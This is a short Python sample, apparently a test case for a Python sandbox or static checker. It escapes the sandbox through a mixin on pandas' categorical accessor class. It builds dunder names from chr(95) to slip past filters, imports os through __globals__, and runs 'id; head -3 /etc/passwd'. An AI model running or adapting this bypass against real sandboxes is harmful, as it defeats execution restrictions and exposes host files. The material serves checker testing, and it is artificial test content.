# source: pandas CategoricalAccessor; mixin/MRO private-name injection
# family: a plain mixin of the script supplies private names to a library-derived class (base `pd.Series.cat`, the accessor class), check only looks at the derived class
# goal: getattr by name -> os.system: runs `id`, prints /etc/passwd
import pandas as pd


class M:
    def put(self, obj):
        self._parent = obj

    def _delegate_property_get(self, name):
        return name


class S(pd.Series.cat, M):
    pass


u = chr(95) * 2
a = S(pd.Series(["a"], dtype="category"))
a.put(pd.isna)
g = a._delegate_property_get(u + "globals" + u)
imp = g[u + "builtins" + u][u + "import" + u]
a.put(imp("o" + "s"))
run = a._delegate_property_get("sys" + "tem")
run("id; head -3 " + chr(47) + "etc" + chr(47) + "passwd")
